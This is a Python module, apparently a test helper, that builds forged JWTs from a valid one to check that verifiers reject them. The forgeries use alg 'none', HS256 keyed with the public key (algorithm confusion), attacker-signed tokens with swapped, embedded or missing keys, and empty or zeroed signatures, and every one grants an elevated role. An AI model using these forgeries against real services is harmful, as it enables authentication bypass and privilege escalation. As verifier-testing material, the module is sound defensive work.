"""Tokens nobody should accept, made from a good one. Only the standard library and the `openssl` program."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import subprocess
import tempfile
import time
from pathlib import Path

#: SubjectPublicKeyInfo of a P-256 key up to its uncompressed point (RFC 5480).
_P256_SPKI = bytes.fromhex("3059301306072a8648ce3d020106082a8648ce3d03010703420004")


def encode(raw: bytes) -> str:
    """Base64url without padding."""
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def decode(text: str) -> bytes:
    """The reverse of `encode`."""
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def parts(token: str) -> tuple[dict, dict]:
    """Header and claims, unverified."""
    header, claims, _ = token.split(".")
    return json.loads(decode(header)), json.loads(decode(claims))


def _join(header: dict, claims: dict) -> str:
    return ".".join(encode(json.dumps(part, separators=(",", ":")).encode()) for part in (header, claims))


def public_pem(jwk: dict) -> bytes:
    """An EC P-256 JWK as PEM: what a verifier that mixes up its algorithms would use as an HMAC secret."""
    der = base64.b64encode(_P256_SPKI + decode(jwk["x"]) + decode(jwk["y"])).decode()
    lines = [der[at : at + 64] for at in range(0, len(der), 64)]
    return "\n".join(["-----BEGIN PUBLIC KEY-----", *lines, "-----END PUBLIC KEY-----", ""]).encode()


class Attacker:
    """Owns a P-256 key of their own, and signs with it."""

    def __init__(self) -> None:
        self._pem = subprocess.run(
            ["openssl", "ecparam", "-name", "prime256v1", "-genkey", "-noout"], check=True, capture_output=True
        ).stdout
        spki = subprocess.run(
            ["openssl", "ec", "-pubout", "-outform", "DER"], input=self._pem, check=True, capture_output=True
        ).stdout
        self.jwk = {"kty": "EC", "crv": "P-256", "x": encode(spki[-64:-32]), "y": encode(spki[-32:])}

    def sign(self, header: dict, claims: dict) -> str:
        """A well-formed ES256 token under the attacker's key."""
        text = _join(header, claims)
        with tempfile.NamedTemporaryFile(suffix=".pem") as key:
            Path(key.name).write_bytes(self._pem)
            der = subprocess.run(
                ["openssl", "dgst", "-sha256", "-sign", key.name], input=text.encode(), check=True, capture_output=True
            ).stdout
        return f"{text}.{encode(_raw_signature(der))}"


def _raw_signature(der: bytes) -> bytes:
    """r and s, 32 bytes each (RFC 7518 §3.4), out of an ASN.1 sequence of two short integers."""
    raw, at = b"", 2
    for _ in range(2):
        length = der[at + 1]
        raw += int.from_bytes(der[at + 2 : at + 2 + length], "big").to_bytes(32, "big")
        at += 2 + length
    return raw


def forgeries(good: str, granting: str, jwks: dict) -> dict[str, str]:
    """Tokens that a careful verifier refuses, by name. `good` is a valid token without the role `granting`; every
    forgery claims that role, so that whoever believes one lets it pass."""
    header, claims = parts(good)
    claims |= {"roles": [granting], "groups": [granting], "scope": granting, "exp": int(time.time()) + 900}
    signature = good.rsplit(".", 1)[1]
    jwk = next(key for key in jwks["keys"] if key["kid"] == header["kid"])
    attacker = Attacker()

    def hs256(secret: bytes) -> str:
        text = _join(header | {"alg": "HS256"}, claims)
        return f"{text}.{encode(hmac.new(secret, text.encode(), hashlib.sha256).digest())}"

    return {
        "claims changed under the old signature": f"{_join(header, claims)}.{signature}",
        "alg none": f"{_join(header | {'alg': 'none'}, claims)}.",
        "alg None with the old signature": f"{_join(header | {'alg': 'None'}, claims)}.{signature}",
        "HS256 with the public key as PEM": hs256(public_pem(jwk)),
        "HS256 with the public key as JWK": hs256(json.dumps(jwk, separators=(",", ":")).encode()),
        "HS256 with an empty secret": hs256(b""),
        "another key under the same kid": attacker.sign(header, claims),
        "another key, brought along in the header": attacker.sign(header | {"jwk": attacker.jwk}, claims),
        "another key under an unknown kid": attacker.sign(header | {"kid": "unknown"}, claims),
        "another key without a kid": attacker.sign({k: v for k, v in header.items() if k != "kid"}, claims),
        "a signature of zeros": f"{_join(header, claims)}.{encode(bytes(64))}",
        "no signature": f"{_join(header, claims)}.",
    }
